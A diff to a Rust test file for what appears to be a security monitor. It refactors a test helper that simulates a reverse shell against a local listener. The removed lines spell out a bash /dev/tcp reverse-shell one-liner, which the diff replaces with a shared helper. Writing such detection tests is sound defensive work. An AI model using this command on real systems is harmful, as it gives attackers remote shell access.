@@ -2,7 +2,7 @@
 //! come, and the operator is told.
 
 use std::{
-    process::{Child, Command, Stdio},
+    process::{Child, Stdio},
     time::Duration,
 };
 
@@ -10,7 +10,7 @@ use nix::sys::signal::Signal;
 use sentinel_ipc::{frame::KindSet, kernel_abi::kind};
 use sentinel_tests::{
     bed::Bed,
-    peer::Peer,
+    peer::{self, Peer},
     programs::compiled,
     sentinel::{Outcome, Sentinel, send},
     tap::{Record, Tap},
@@ -25,9 +25,7 @@ fn flood(bed: &Bed, arguments: &[&str]) -> Child {
 /// A shell that connects out, and its attacker's end.
 fn reverse_shell(bed: &Bed) {
     let peer = Peer::listen("127.0.0.1");
-    let code = format!("exec bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port());
-    let mut command: Command = bed.command("bash");
-    let mut child = command.args(["-c", &code]).stderr(Stdio::null()).spawn().unwrap();
+    let mut child = peer::reverse_shell(bed, &peer);
     peer.shell().exit();
     child.wait().unwrap();
 }
